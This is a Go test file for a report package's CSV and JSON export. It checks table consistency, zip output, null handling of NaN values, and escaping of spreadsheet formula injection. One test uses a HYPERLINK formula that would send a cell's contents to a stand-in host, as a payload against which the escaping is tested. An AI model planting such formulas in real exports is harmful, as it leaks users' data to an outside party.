package report

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// readCSVDir reads every CSV file of a directory by table name.
func readCSVDir(t *testing.T, dir string) map[string][][]string {
	t.Helper()
	out := map[string][][]string{}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", e.Name(), err)
		}
		out[strings.TrimSuffix(e.Name(), ".csv")] = recs
	}
	return out
}

// decodeJSON writes the runs as JSON and decodes the document.
func decodeJSON(t *testing.T, runs []Run) JSONDocument {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteJSON(context.Background(), &buf, runs, Options{}); err != nil {
		t.Fatal(err)
	}
	var doc JSONDocument
	dec := json.NewDecoder(&buf)
	dec.UseNumber()
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("JSON does not decode: %v", err)
	}
	return doc
}

// TestCSVAndJSONCarryTheSameTables checks that the CSV files and the JSON
// document hold the same tables, column for column and row for row.
func TestCSVAndJSONCarryTheSameTables(t *testing.T) {
	runs := analysedRuns(t, 150)
	dir := filepath.Join(t.TempDir(), "results")
	if err := WriteCSV(context.Background(), dir, runs, Options{}); err != nil {
		t.Fatal(err)
	}
	files := readCSVDir(t, dir)
	doc := decodeJSON(t, runs)
	if doc.Format != JSONFormat || doc.Version != 1 {
		t.Fatalf("document format %q version %d", doc.Format, doc.Version)
	}
	if len(doc.Tables) != len(files) || len(files) != len(tableNames()) {
		t.Fatalf("%d JSON tables, %d CSV files, want %d", len(doc.Tables), len(files), len(tableNames()))
	}
	for _, tb := range doc.Tables {
		recs, ok := files[tb.Name]
		if !ok {
			t.Fatalf("table %s has no CSV file", tb.Name)
		}
		if !slices.Contains(tableNames(), tb.Name) {
			t.Errorf("table %s missing from tableNames", tb.Name)
		}
		var names []string
		for _, c := range tb.Columns {
			names = append(names, c.Name)
		}
		if !slices.Equal(names, recs[0]) {
			t.Fatalf("%s: JSON columns %v, CSV header %v", tb.Name, names, recs[0])
		}
		if len(tb.Rows) != len(recs)-1 {
			t.Fatalf("%s: %d JSON rows, %d CSV rows", tb.Name, len(tb.Rows), len(recs)-1)
		}
		for i, row := range tb.Rows {
			for j, v := range row {
				if got, want := jsonText(v), unescapeCSV(recs[i+1][j]); got != want {
					t.Fatalf("%s row %d column %s: JSON %q, CSV %q", tb.Name, i+1, names[j], got, want)
				}
			}
		}
	}
	if rows := len(files["distribution"]) - 1; rows != 300 {
		t.Errorf("distribution has %d rows, want 2 × 150", rows)
	}
	if len(files["comparison"]) != 1+11 {
		t.Errorf("comparison has %d rows, want 11 measures for the second run", len(files["comparison"])-1)
	}
	if n, want := len(files["tornado"])-1, 2*len(runs[0].Sensitivity.Bars); n != want {
		t.Errorf("tornado has %d rows, want %d", n, want)
	}
	if n := len(files["goal_seek"]) - 1; n != 4 {
		t.Errorf("goal_seek has %d rows, want 2 levers × 2 runs", n)
	}
}

// jsonText writes a decoded JSON value as CSV writes it.
func jsonText(v any) string {
	switch x := v.(type) {
	case nil:
		return ""
	case json.Number:
		f, _ := x.Float64()
		return strconv.FormatFloat(f, 'g', -1, 64)
	case string:
		return x
	}
	return "?"
}

// unescapeCSV undoes the formula-injection prefix and normalises numbers.
func unescapeCSV(s string) string {
	if strings.HasPrefix(s, "'") && dangerous(s[1:]) {
		return s[1:]
	}
	if f, err := strconv.ParseFloat(s, 64); err == nil {
		return strconv.FormatFloat(f, 'g', -1, 64)
	}
	return s
}

func TestCSVZip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "results.zip")
	if err := WriteCSV(context.Background(), path, []Run{testRun(t, testScenario(t, "Baseline", 50))}, Options{}); err != nil {
		t.Fatal(err)
	}
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	var got []string
	for _, f := range z.File {
		got = append(got, strings.TrimSuffix(f.Name, ".csv"))
	}
	if want := plainTables(); !slices.Equal(got, want) {
		t.Errorf("zip holds %v, want %v", got, plainTables())
	}
}

// TestCSVEscapesInputText checks the quote prefix on input text only.
func TestCSVEscapesInputText(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "out")
	if err := WriteCSV(context.Background(), dir, []Run{testRun(t, testScenario(t, "Baseline", 50))}, Options{}); err != nil {
		t.Fatal(err)
	}
	files := readCSVDir(t, dir)
	var names, eprs, programmes []string
	for _, r := range files["inputs_trusts"][1:] {
		names, eprs = append(names, r[2]), append(eprs, r[8])
	}
	for _, r := range files["inputs_funding"][1:] {
		programmes = append(programmes, r[2])
	}
	for _, want := range []struct {
		list []string
		v    string
	}{{names, "'" + evilName}, {eprs, "'@risk system"}, {programmes, "'-minus programme"}, {names, "Test Trust 0"}} {
		if !slices.Contains(want.list, want.v) {
			t.Errorf("%q not written", want.v)
		}
	}
	for _, r := range files["summary"][1:] {
		if strings.HasPrefix(r[4], "'") {
			t.Errorf("number %q escaped", r[4])
		}
	}
}

// TestJSONNaNIsNull checks that undefined numbers are written as null.
func TestJSONNaNIsNull(t *testing.T) {
	run := testRun(t, testScenario(t, "Baseline", 50))
	res := *run.Result
	res.Outputs = slices.Clone(res.Outputs)
	res.Outputs[0].Stats.P5 = math.NaN()
	res.Outputs[0].Stats.P95 = math.Inf(1)
	run.Result = &res
	doc := decodeJSON(t, []Run{run})
	for _, tb := range doc.Tables {
		if tb.Name != "summary" {
			continue
		}
		p5 := slices.IndexFunc(tb.Columns, func(c JSONColumn) bool { return c.Name == "p5" })
		p95 := slices.IndexFunc(tb.Columns, func(c JSONColumn) bool { return c.Name == "p95" })
		if tb.Rows[0][p5] != nil || tb.Rows[0][p95] != nil {
			t.Errorf("p5 %v, p95 %v: want null", tb.Rows[0][p5], tb.Rows[0][p95])
		}
		return
	}
	t.Fatal("no summary table")
}

// TestCSVEscapesHeaders writes a run whose scenario name is a formula: the
// Manifest's column for it, headed by the name, is escaped as every input
// field is, in every table's header.
func TestCSVEscapesHeaders(t *testing.T) {
	evil := `=HYPERLINK("http://example.invalid/?leak="&A1,"Click")`
	dir := filepath.Join(t.TempDir(), "out")
	sc := testScenario(t, "Baseline", 50)
	sc.Name = evil
	if err := WriteCSV(context.Background(), dir, []Run{testRun(t, sc)}, Options{}); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		header, _, _ := strings.Cut(string(b), "\n")
		for _, f := range strings.Split(header, ",") {
			f = strings.Trim(f, `"`)
			if dangerous(f) {
				t.Errorf("%s: header field %q is read as a formula", e.Name(), f)
			}
			found = found || strings.HasPrefix(f, "'=HYPERLINK")
		}
	}
	if !found {
		t.Error("no header holds the escaped scenario name")
	}
}
